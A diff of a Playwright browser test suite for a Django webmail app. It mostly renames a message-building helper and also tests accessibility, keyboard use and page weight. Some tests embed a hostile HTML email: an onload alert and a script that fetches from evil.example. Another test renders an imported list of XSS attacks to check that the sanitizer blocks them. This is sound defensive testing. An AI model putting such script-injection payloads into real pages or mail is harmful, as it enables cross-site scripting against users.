@@ -7,10 +7,10 @@ from pathlib import Path
 import pytest
 from django.conf import settings
 from playwright.sync_api import Page
-from test_gate import ATTACKS
 
 import accessibility
-from office import PostOffice, letter
+from tests.webmail.sanitize.test_html_sanitizer import ATTACKS
+from webmail_fixtures import PostOffice, make_message
 
 pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
 
@@ -24,7 +24,7 @@ EVIL = """<html><body onload="alert(1)"><script>fetch('https://evil.example/s')<
 
 @pytest.mark.parametrize("width", [360, 1280])
 def test_a_day_without_javascript(visit, office: PostOffice, width: int) -> None:
-    office.put(letter("会议", "您好\n"))
+    office.put(make_message("会议", "您好\n"))
     page = visit(width, java_script_enabled=False)
     page.goto("/")
     page.click(".subject")
@@ -33,7 +33,7 @@ def test_a_day_without_javascript(visit, office: PostOffice, width: int) -> None
     page.click("button[value=send]")
     assert page.locator(".note.success").inner_text() == "Your message was sent."
     office.deliver()
-    assert len(office.letters("xiaoqi")) == 1
+    assert len(office.messages("xiaoqi")) == 1
     page.goto("/")
     page.check("input[name=uid]")
     page.click("button[value=delete]")
@@ -55,8 +55,8 @@ def test_the_folders_open_on_a_narrow_screen(visit) -> None:
     assert page.locator("#pane").is_hidden()
 
 
-def test_a_hostile_letter_reaches_nobody(visit, office: PostOffice) -> None:
-    message = letter("Rechnung")
+def test_a_hostile_message_reaches_nobody(visit, office: PostOffice) -> None:
+    message = make_message("Rechnung")
     message.set_content(EVIL, subtype="html")
     office.put(message)
     page = visit()
@@ -70,7 +70,7 @@ def test_a_hostile_letter_reaches_nobody(visit, office: PostOffice) -> None:
 
 
 def test_images_are_loaded_when_asked_for(visit, office: PostOffice) -> None:
-    message = letter("Rechnung")
+    message = make_message("Rechnung")
     message.set_content(EVIL, subtype="html")
     office.put(message)
     page = visit()
@@ -90,20 +90,22 @@ CARD = CARD.format("长" * 300).encode()
 
 @pytest.fixture
 def library(office: PostOffice) -> None:
-    message = letter("一个很长很长的主题" * 8, "x" * 400 + "\n" + "字" * 300 + "\n", "A" * 90 + " <xiaoqi@benet.com>")
+    message = make_message(
+        "一个很长很长的主题" * 8, "x" * 400 + "\n" + "字" * 300 + "\n", "A" * 90 + " <xiaoqi@benet.com>"
+    )
     message.add_alternative(f"<p>{'y' * 400}</p><table width=2000><tr><td>z</table>", subtype="html")
     message.add_attachment(b"x", "application", "pdf", filename="很长的文件名" * 12 + ".pdf")
     message.add_attachment(CARD, "text", "vcard", filename="王芳.vcf")
     office.put(message)
-    office.put(letter("会议", "您好\n"), flags=r"(\Seen \Flagged \Answered $label1)")
+    office.put(make_message("会议", "您好\n"), flags=r"(\Seen \Flagged \Answered $label1)")
     asked = {
         "Message-ID": "<3@benet.com>",
         "List-Id": "<l.x>",
         "List-Post": "<mailto:l@x>",
         "List-Unsubscribe": "<https://x.example/>",
     }
-    office.put(letter("出差", "x\n", **asked))
-    office.put(letter("Re: 出差", "y\n", References="<3@benet.com>", Reply_To="x@evil.example"))
+    office.put(make_message("出差", "x\n", **asked))
+    office.put(make_message("Re: 出差", "y\n", References="<3@benet.com>", Reply_To="x@evil.example"))
 
 
 @pytest.mark.parametrize(
@@ -158,7 +160,7 @@ def test_everything_has_a_name_and_can_be_read(visit, library, scheme: str) -> N
 
 
 def test_the_keyboard_is_enough(visit, office: PostOffice) -> None:
-    office.put(letter("会议", "您好\n"))
+    office.put(make_message("会议", "您好\n"))
     page = visit()
     page.goto("/")
     page.keyboard.press("Tab")
@@ -174,7 +176,7 @@ def test_the_keyboard_is_enough(visit, office: PostOffice) -> None:
 
 def test_a_page_weighs_little(visit, office: PostOffice) -> None:
     for number in range(50):
-        office.put(letter(f"第{number}封关于会议的邮件", "您好\n"))
+        office.put(make_message(f"第{number}封关于会议的邮件", "您好\n"))
     page = visit()
     page.asked.clear()
     weight: dict[str, int] = {}
@@ -201,7 +203,7 @@ def test_a_page_weighs_little(visit, office: PostOffice) -> None:
 @pytest.fixture
 def five(visit, office: PostOffice) -> Page:
     for number in range(1, 6):
-        office.put(letter(f"第{number}封"))
+        office.put(make_message(f"第{number}封"))
     page = visit()
     page.goto("/")
     return page
@@ -234,10 +236,10 @@ def test_an_action_needs_no_new_page(five: Page, office: PostOffice) -> None:
     assert "\\Flagged" in office.flags(4)
 
 
-def test_a_letter_is_drawn_to_a_folder(five: Page, office: PostOffice) -> None:
+def test_a_message_is_drawn_to_a_folder(five: Page, office: PostOffice) -> None:
     five.drag_and_drop(".row >> nth=1", ".folders a:has-text('Archive')")
     five.wait_for_selector(".note.success:has-text('Archive')")
-    assert len(office.letters("lisi", "Archive")) == 1
+    assert len(office.messages("lisi", "Archive")) == 1
 
 
 def arrived(page: Page, selector: str) -> None:
@@ -252,7 +254,7 @@ def test_the_keys(five: Page, office: PostOffice) -> None:
     assert five.locator(".row").nth(1).locator("input").is_checked()
     five.keyboard.press("#")
     arrived(five, ".note.success")
-    assert len(office.letters("lisi", "Trash")) == 1
+    assert len(office.messages("lisi", "Trash")) == 1
     five.keyboard.press("?")
     five.wait_for_selector("#keys", state="visible")
     assert "next, previous message" in five.locator("#keys").inner_text()
@@ -286,14 +288,14 @@ def test_every_attack_in_a_real_browser(visit, office: PostOffice) -> None:
     """Nothing runs (a dialog fails the test), nothing is asked of the network but our own site."""
     attacks = list(ATTACKS.values())
     for start in range(0, len(attacks), 40):
-        message = letter(f"{start}")
+        message = make_message(f"{start}")
         message.set_content("\n<hr>\n".join(a for a in attacks[start : start + 40] if len(a) < 5000), subtype="html")
         office.put(message)
     for number, attack in enumerate(
         a for a in attacks if "<!--" in a or "<style" in a or "<plaintext" in a or "<math" in a
     ):
         if number < 30:
-            message = letter(f"alone {number}")
+            message = make_message(f"alone {number}")
             message.set_content(attack, subtype="html")
             office.put(message)
     page = visit()
